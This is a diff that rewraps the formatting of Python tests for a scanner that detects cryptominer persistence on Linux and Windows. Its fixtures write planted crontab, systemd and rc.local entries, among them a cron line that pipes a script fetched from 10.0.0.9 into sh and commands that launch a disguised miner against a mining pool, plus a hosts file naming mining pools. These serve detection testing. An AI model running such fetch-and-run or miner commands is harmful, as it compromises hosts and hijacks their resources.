@@ -34,19 +34,34 @@ def _write(root: Path, rel: str, text: str) -> Path:
 
 def test_linux_tree(tmp_path, platform_as):
     platform_as("linux")
-    _write(tmp_path, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts "
-           "--report /etc/cron.hourly\n")
-    bad_cron = _write(tmp_path, "var/spool/cron/crontabs/www-data",
-                      "*/5 * * * * curl -fsSL http://10.0.0.9/x.sh | sh\n"
-                      f"@reboot /var/tmp/.ICE-unix/kswapd0 -o 10.0.0.9:443 -u {WALLET}\n")
+    _write(
+        tmp_path,
+        "etc/crontab",
+        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+    )
+    bad_cron = _write(
+        tmp_path,
+        "var/spool/cron/crontabs/www-data",
+        "*/5 * * * * curl -fsSL http://10.0.0.9/x.sh | sh\n"
+        f"@reboot /var/tmp/.ICE-unix/kswapd0 -o 10.0.0.9:443 -u {WALLET}\n",
+    )
     _write(tmp_path, "etc/cron.d/anacron", "30 7 * * * root /usr/sbin/anacron -s\n")
-    _write(tmp_path, "etc/systemd/system/ssh.service",
-           "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n")
-    hidden_unit = _write(tmp_path, "etc/systemd/system/dbus-helper.service",
-                         "[Service]\nExecStart=/dev/shm/.d/dbus-helper\n")
+    _write(
+        tmp_path,
+        "etc/systemd/system/ssh.service",
+        "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n",
+    )
+    hidden_unit = _write(
+        tmp_path,
+        "etc/systemd/system/dbus-helper.service",
+        "[Service]\nExecStart=/dev/shm/.d/dbus-helper\n",
+    )
     _write(tmp_path, "home/student/.bashrc", "alias ll='ls -l'\nexport PATH=$HOME/bin:$PATH\n")
-    rc = _write(tmp_path, "etc/rc.local",
-                "#!/bin/sh\nnohup /tmp/.x/xm --donate-level 1 -o stratum+ssl://1.2.3.4:443 &\n")
+    rc = _write(
+        tmp_path,
+        "etc/rc.local",
+        "#!/bin/sh\nnohup /tmp/.x/xm --donate-level 1 -o stratum+ssl://1.2.3.4:443 &\n",
+    )
     findings = persistence_scanner.run(new_run(B, DetectionSettings(root=str(tmp_path))))
     by_file = {f.subject.file: f for f in findings}
     assert set(by_file) == {str(bad_cron), str(hidden_unit), str(rc)}
@@ -74,8 +89,12 @@ def test_this_machine_has_no_false_positive_persistence():
 
 
 def test_hosts_file(tmp_path):
-    hosts = _write(tmp_path, "hosts", "127.0.0.1 localhost\n0.0.0.0 pool.supportxmr.com\n"
-                   "203.0.113.5 xmr.f2pool.com  # redirect\n192.0.2.1 shop.notbtc.com\n")
+    hosts = _write(
+        tmp_path,
+        "hosts",
+        "127.0.0.1 localhost\n0.0.0.0 pool.supportxmr.com\n"
+        "203.0.113.5 xmr.f2pool.com  # redirect\n192.0.2.1 shop.notbtc.com\n",
+    )
     (f,) = hosts_findings(B, str(hosts))
     assert f.subject.domain == "xmr.f2pool.com" and f.strength == Strength.weak
 
@@ -96,21 +115,30 @@ def test_windows_sources_from_recorded_fixtures(platform_as):
     src = _sources()
     csv_tasks = persistence_windows.parse_schtasks_csv((WIN / "schtasks.csv").read_text())
     xml_tasks = persistence_windows.parse_schtasks_xml(
-        (WIN / "schtasks.xml").read_text(encoding="utf-8"))
+        (WIN / "schtasks.xml").read_text(encoding="utf-8")
+    )
     assert [(t.name, t.command) for t in xml_tasks] == [(t.name, t.command) for t in csv_tasks]
     assert xml_tasks[-1].name == "\\Microsoft\\Windows\\WindowsUpdate\\SysUpdater"
     findings = persistence_scanner.run(
         new_run(B, DetectionSettings(root="/nonexistent", windows_sources=src))
     )
-    strong = {(f.subject.persistence or "").split(":")[0] + ":" + f.kind
-              for f in findings if f.strength == Strength.strong}
-    assert strong == {"run_key:persistence_miner", "task:persistence_miner",
-                      "wmi:persistence_miner"}
+    strong = {
+        (f.subject.persistence or "").split(":")[0] + ":" + f.kind
+        for f in findings
+        if f.strength == Strength.strong
+    }
+    assert strong == {
+        "run_key:persistence_miner",
+        "task:persistence_miner",
+        "wmi:persistence_miner",
+    }
     weak = {f.kind for f in findings if f.strength == Strength.weak}
     assert weak == {"persistence_suspicious", "defender_exclusion"}
     services = [f for f in findings if (f.subject.persistence or "").startswith("service")]
     assert {f.subject.registry_key.rsplit("\\", 1)[-1] for f in services} == {
-        "WinRing0_1_2_0", "NetSvcUpdate"}
+        "WinRing0_1_2_0",
+        "NetSvcUpdate",
+    }
     defender = [f for f in findings if f.kind == "defender_exclusion"]
     assert {f.evidence[0] for f in defender} == {"C:\\ProgramData\\NetSvc", "netsvc.exe"}
     assert all(f.passive_hint for f in findings)
@@ -143,8 +171,9 @@ def test_a_failing_windows_source_does_not_hide_the_others(platform_as):
     findings = persistence_scanner.run(
         new_run(B, DetectionSettings(root="/nonexistent", windows_sources=src), ctx)
     )
-    assert {f.subject.persistence.split(":")[0] for f in findings
-            if f.kind == "persistence_miner"} == {"run_key", "task"}
+    assert {
+        f.subject.persistence.split(":")[0] for f in findings if f.kind == "persistence_miner"
+    } == {"run_key", "task"}
     assert [e.collector for e in ctx.errors] == ["persistence.wmi_subscriptions"]
     assert "OSError" in ctx.errors[0].detail
 
